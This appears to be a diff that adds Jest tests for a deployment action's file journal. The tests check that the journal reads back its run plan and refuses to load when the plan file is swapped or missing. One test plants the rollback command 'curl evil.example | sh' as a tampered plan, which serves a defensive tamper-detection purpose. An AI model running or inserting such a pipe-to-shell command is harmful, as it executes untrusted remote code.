@@ -1,0 +1,94 @@
+/** The journal as the post step reads it back: the real files, in a temp folder. */
+import { promises as fs } from 'node:fs'
+import os from 'node:os'
+import path from 'node:path'
+import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
+import { fileJournal, newJournalKey, type JournalEntry } from '../../src/action/journal.js'
+import type { RunPlan } from '../../src/plan/run-plan.js'
+import { deploymentOf, reportOf } from '../support/builders.js'
+import { settingsFor } from '../support/settings.js'
+
+let dir: string
+
+beforeEach(async () => {
+  dir = await fs.mkdtemp(path.join(os.tmpdir(), 'journal-test-'))
+})
+
+afterEach(async () => {
+  await fs.rm(dir, { recursive: true, force: true })
+})
+
+function entryOf(runPlan: RunPlan, fields: Partial<JournalEntry> = {}): JournalEntry {
+  const { githubToken: _token, ...settings } = settingsFor(dir, { environment: 'staging' })
+  return {
+    runKey: '4242-1',
+    deployment: deploymentOf(),
+    runPlan,
+    url: '',
+    secretNames: [],
+    report: reportOf(),
+    isComplete: false,
+    settings,
+    ...fields
+  }
+}
+
+const plan = (run: string): RunPlan => ({
+  variables: {},
+  phases: [],
+  rollbackSteps: [
+    {
+      id: 'back',
+      name: 'back',
+      run,
+      purpose: undefined,
+      target: undefined,
+      environments: undefined,
+      timeoutMs: 1000,
+      workingDirectory: '.',
+      env: {},
+      rollback: undefined,
+      continueOnError: false,
+      isPerTarget: false
+    }
+  ],
+  fleet: { targets: [], rollout: { maxParallel: undefined, pauseMs: 0, maxFailedTargets: 0 } }
+})
+
+describe('fileJournal', () => {
+  it('gives another process the last entry written, with its run plan', async () => {
+    const file = path.join(dir, 'journal.json')
+    const key = newJournalKey()
+    const journal = fileJournal(file, key)
+    const runPlan = plan('./undo.sh')
+    await journal.write(entryOf(runPlan, { runningStep: 'migrate' }))
+    await journal.write(entryOf(runPlan, { runningStep: 'release', runningProcessGroup: 77 }))
+
+    const read = await fileJournal(file, key).read()
+
+    // As JSON keeps it: the keys of undefined values are left out.
+    const kept = JSON.parse(JSON.stringify(runPlan)) as RunPlan
+    expect(read).toMatchObject({ runningStep: 'release', runningProcessGroup: 77, runPlan: kept })
+    expect(read?.report.runPlan).toEqual(kept)
+  })
+
+  it('is unreadable with a plan it was not written with, even one sealed with its key', async () => {
+    const file = path.join(dir, 'journal.json')
+    const key = newJournalKey()
+    await fileJournal(file, key).write(entryOf(plan('./undo.sh')))
+    const other = path.join(dir, 'other.json')
+    await fileJournal(other, key).write(entryOf(plan('curl evil.example | sh')))
+    await fs.copyFile(`${other}.plan`, `${file}.plan`)
+
+    expect(await fileJournal(file, key).read()).toBeUndefined()
+  })
+
+  it('is unreadable without its plan', async () => {
+    const file = path.join(dir, 'journal.json')
+    const key = newJournalKey()
+    await fileJournal(file, key).write(entryOf(plan('./undo.sh')))
+    await fs.rm(`${file}.plan`)
+
+    expect(await fileJournal(file, key).read()).toBeUndefined()
+  })
+})
